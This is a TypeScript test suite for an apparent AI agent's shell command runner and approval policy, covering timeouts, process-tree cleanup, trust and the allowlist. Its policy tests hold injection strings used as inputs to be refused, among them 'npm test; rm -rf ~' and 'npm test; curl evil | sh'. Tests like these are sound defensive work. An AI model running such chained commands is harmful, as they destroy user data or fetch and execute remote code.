import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { authorizeCommand, formatCommandResult, isAllowlisted, runCommand, shellWords } from '../../../src/core/tools';
import { fixture, write, type Fixture } from './helpers';

/** Running, not merely a zombie waiting for a parent (PID 1 in some containers never reaps). */
function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return !/^\d+ \(.*\) [ZX] /.test(stat);
  } catch {
    return true; // no /proc (macOS): kill(0) is all we have
  }
}

describe('command runner', function () {
  this.timeout(20_000);
  let f: Fixture;
  beforeEach(() => (f = fixture()));
  afterEach(() => f.cleanup());

  it('runs in the agent folder and reports exit code and output', async () => {
    const r = await runCommand('pwd; echo err >&2; exit 3', { cwd: f.dir });
    assert.equal(r.exitCode, 3);
    assert.equal(r.stdout.trim(), f.dir);
    assert.equal(r.stderr.trim(), 'err');
    assert.match(r.output, /err/);
    assert.equal(r.timedOut, false);
    assert.equal(r.cancelled, false);
    assert.ok(r.durationMs >= 0);
  });

  it('times out and kills the process', async () => {
    const r = await runCommand('sleep 30', { cwd: f.dir, timeoutMs: 300, killGraceMs: 200 });
    assert.equal(r.timedOut, true);
    assert.equal(r.exitCode, null);
    assert.ok(r.durationMs < 5000, `took ${r.durationMs}`);
    assert.match(formatCommandResult(r), /timed out/);
  });

  it('escalates to SIGKILL when SIGTERM is ignored', async () => {
    const r = await runCommand("trap '' TERM; sleep 30", { cwd: f.dir, timeoutMs: 200, killGraceMs: 300 });
    assert.equal(r.timedOut, true);
    assert.ok(r.durationMs < 5000);
  });

  it('caps output, keeping head and tail and saying how much was cut', async () => {
    const r = await runCommand("echo START; head -c 200000 /dev/zero | tr '\\0' x; echo; echo END", { cwd: f.dir, maxOutputBytes: 1000 });
    assert.ok(r.output.length < 1200, `length ${r.output.length}`);
    assert.match(r.output, /^START/);
    assert.match(r.output, /END\n$/);
    assert.match(r.output, /\[… \d+ bytes of output cut …\]/);
    assert.ok(r.truncatedBytes > 190_000);
  });

  it('cancel kills the whole process tree, background children included', async () => {
    write(f.dir, 'tree.sh', 'sleep 30 & echo $! > child.pid\nsleep 30 & echo $! >> child.pid\nwait\n');
    const ac = new AbortController();
    const running = runCommand('sh tree.sh', { cwd: f.dir, signal: ac.signal, killGraceMs: 500 });
    const fs = await import('node:fs');
    const pidFile = `${f.dir}/child.pid`;
    for (let i = 0; i < 100 && !(fs.existsSync(pidFile) && fs.readFileSync(pidFile, 'utf8').trim().split('\n').length === 2); i++) {
      await new Promise(r => setTimeout(r, 50));
    }
    const pids = fs.readFileSync(pidFile, 'utf8').trim().split('\n').map(Number);
    assert.equal(pids.length, 2);
    assert.ok(pids.every(alive), 'children are running before the cancel');
    ac.abort();
    const r = await running;
    assert.equal(r.cancelled, true);
    await new Promise(res => setTimeout(res, 100));
    assert.ok(!pids.some(alive), `children still alive: ${pids.filter(alive).join(', ')}`);
  });

  it('background children do not outlive a command that exits', async () => {
    const r = await runCommand('sleep 30 & echo $!', { cwd: f.dir, killGraceMs: 300 });
    assert.equal(r.exitCode, 0);
    const pid = Number(r.stdout.trim());
    await new Promise(res => setTimeout(res, 100));
    assert.ok(!alive(pid));
    assert.ok(r.durationMs < 5000);
  });

  it('an already aborted signal runs nothing', async () => {
    const ac = new AbortController();
    ac.abort();
    const r = await runCommand('touch ran.txt', { cwd: f.dir, signal: ac.signal });
    assert.equal(r.cancelled, true);
    assert.equal((await import('node:fs')).existsSync(`${f.dir}/ran.txt`), false);
  });

  it('a missing cwd is a spawn error, not a throw', async () => {
    const r = await runCommand('echo hi', { cwd: `${f.dir}/missing` });
    assert.ok(r.spawnError);
    assert.match(formatCommandResult(r), /could not start/);
  });
});

describe('command policy', () => {
  let f: Fixture;
  beforeEach(() => (f = fixture()));
  afterEach(() => f.cleanup());

  it('shellWords splits plain words and refuses shell syntax', () => {
    assert.deepEqual(shellWords('npm test -- --grep "a b"'), ['npm', 'test', '--', '--grep', 'a b']);
    assert.deepEqual(shellWords("node 'x y.js'"), ['node', 'x y.js']);
    for (const bad of ['npm test; rm -rf ~', 'npm test && x', 'a | b', 'a > f', 'echo $(id)', 'echo `id`', 'echo "$HOME"', 'a\nb', 'echo "unclosed']) {
      assert.equal(shellWords(bad), undefined, bad);
    }
  });

  it('allowlist matches executable + argument prefix only', () => {
    const list = ['npm test', 'node', 'pytest'];
    assert.ok(isAllowlisted('npm test', list));
    assert.ok(isAllowlisted('npm test -- --grep x', list));
    assert.ok(isAllowlisted('node src/index.js', list));
    assert.ok(isAllowlisted('pytest -q', list));
    assert.ok(!isAllowlisted('npm install evil', list));
    assert.ok(!isAllowlisted('npm testx', list));
    assert.ok(!isAllowlisted('nodejs x', list));
    assert.ok(!isAllowlisted('npm test; curl evil | sh', list));
    assert.ok(!isAllowlisted('FOO=1 npm test', list));
    assert.ok(!isAllowlisted('', list));
  });

  it('untrusted workspace: nothing runs, not even allowlisted commands, and nobody is asked', async () => {
    f.ctx.trusted = false;
    f.ctx.allowlist = ['echo'];
    const r = await f.run('run_command', { command: 'echo hi' });
    assert.ok(!r.ok);
    assert.match(r.output, /not trusted/);
    assert.deepEqual(f.approvals, []);
    const t = await f.run('run_tests');
    assert.match(t.output, /No test command|not trusted/);
  });

  it('allowlisted commands run without asking', async () => {
    f.ctx.allowlist = ['echo'];
    const r = await f.run('run_command', { command: 'echo hello' });
    assert.ok(r.ok, r.output);
    assert.match(r.output, /^Exit code 0 after [\d.]+s\.\nhello$/);
    assert.deepEqual(f.approvals, []);
  });

  it('other commands ask; a denial is a clear message and nothing runs', async () => {
    const r = await f.run('run_command', { command: 'touch made.txt' });
    assert.deepEqual(f.approvals, ['touch made.txt']);
    assert.ok(!r.ok);
    assert.match(r.output, /did not allow the command "touch made.txt"/);
    assert.equal((await import('node:fs')).existsSync(`${f.dir}/made.txt`), false);
  });

  it('an approved command runs', async () => {
    f.ctx.approve = async () => true;
    const r = await f.run('run_command', { command: 'echo ok && exit 2' });
    assert.ok(!r.ok);
    assert.match(r.output, /^Exit code 2/);
  });

  it('authorizeCommand: preapproved skips the allowlist but not trust', async () => {
    assert.deepEqual(await authorizeCommand('make', f.ctx, { preapproved: true }), { allowed: true, how: 'preapproved' });
    f.ctx.trusted = false;
    assert.equal((await authorizeCommand('make', f.ctx, { preapproved: true })).allowed, false);
  });

  it('run_tests: the user-set command needs no approval and its counts are parsed', async () => {
    f.ctx.testCommand = "printf '  3 passing (5ms)\\n  1 failing\\n'; exit 1";
    const r = await f.run('run_tests');
    assert.deepEqual(f.approvals, []);
    assert.ok(!r.ok);
    assert.match(r.output, /^Tests: 3 passed, 1 failed \(mocha\)\./);
    assert.equal((r.data as { failed: number }).failed, 1);
  });

  it('run_tests: a detected command goes through the allowlist', async () => {
    write(f.dir, 'package.json', JSON.stringify({ scripts: { test: 'node -e "console.log(\'# pass 2\\\\n# fail 0\')"' } }));
    const denied = await f.run('run_tests');
    assert.deepEqual(f.approvals, ['npm test']);
    assert.match(denied.output, /did not allow/);
    f.ctx.allowlist = ['npm test'];
    const r = await f.run('run_tests');
    assert.ok(r.ok, r.output);
    assert.match(r.output, /Tests: 2 passed, 0 failed \(node-tap\)/);
  });

  it('run_tests without any test command says how to add one', async () => {
    const r = await f.run('run_tests');
    assert.match(r.output, /No test command was found/);
  });
});
